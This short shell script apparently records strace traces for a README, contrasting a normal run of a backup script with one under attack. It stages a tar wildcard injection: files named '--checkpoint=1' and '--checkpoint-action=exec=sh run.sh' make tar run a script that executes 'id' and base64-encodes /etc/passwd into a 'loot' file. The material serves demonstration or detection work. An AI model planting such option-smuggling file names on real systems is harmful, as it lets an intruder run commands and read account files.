# Records the two files of the README again: sh record.sh (needs strace, and Debian's /usr/share/doc as input).
# Harmless: what the intruder runs reads /etc/passwd and writes a file in a folder that is removed again.
set -e
here=$(realpath "$(dirname "$0")")
mkdir /tmp/first-steps
trap 'rm -rf /tmp/first-steps /tmp/backup.tar /tmp/backup.tar.gz' EXIT
cd /tmp/first-steps
cp "$here/backup.sh" .

for folder in /usr/share/doc/[a-d]*/; do strace -f -A -o normal.strace sh backup.sh "$folder"; done

mkdir shared
echo "minutes of Monday" > shared/minutes.txt
echo "id; base64 /etc/passwd > loot" > shared/run.sh
touch "shared/--checkpoint=1" "shared/--checkpoint-action=exec=sh run.sh"
strace -f -o today.strace sh backup.sh shared

gzip -9fn normal.strace today.strace
mv normal.strace.gz today.strace.gz "$here"
